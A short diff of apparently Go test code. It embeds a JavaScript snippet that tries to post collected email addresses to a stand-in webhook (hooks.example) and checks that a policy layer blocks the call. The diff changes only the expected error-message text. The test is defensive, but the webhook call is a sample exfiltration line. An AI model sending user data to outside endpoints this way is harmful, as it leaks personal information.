@@ -143,7 +143,7 @@ await evil.e%d({items: emails}); // the last slot's, with the fill
 // strings are cut to fit its budget).
 let sent = 0;
 try { await http.post_webhook({url: "https://hooks.example/x", payload: {v: emails[1]}}) }
-catch (e) { sent = e.code == "policy_violation" && String(e.message).includes("every rule covers them") ? 1 : 2 }
+catch (e) { sent = e.code == "policy_violation" && String(e.message).includes("taken as every source") ? 1 : 2 }
 return {sent, emails}`, fill, ops-1, bits, bits, bits, ops-1), "timeout_ms", 60000)
 		grow, used := peakRSS(pid)-before, cpuSeconds(pid)-cpu
 		var res struct {
